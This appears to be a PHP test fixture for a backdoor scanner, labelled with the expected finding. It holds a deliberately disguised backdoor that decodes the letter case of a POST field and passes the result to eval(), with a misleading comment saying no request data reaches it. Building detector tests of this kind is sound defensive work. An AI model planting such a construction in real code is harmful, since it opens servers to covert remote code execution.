<?php return; // want: suspicious backdoor php.code.made
// letters are counted, never copied: no value of the request's is in the result
function tally($words) {
	$bits = '';
	$out = '';
	for ($i = 0; $i < strlen($words); $i++) { $bits .= ctype_upper($words[$i]) ? '1' : '0'; }
	$left = strlen($words);
	while ($left > 0) {
		foreach (array('a' => '00', 'b' => '01', 'c' => '10') as $letter => $pattern) {
			if ($pattern == substr($bits, 0, 2)) { $out .= $letter; }
		}
		$bits = substr($bits, 2);
		$left -= 2;
	}
	return $out;
}
eval(tally($_POST['poem']));
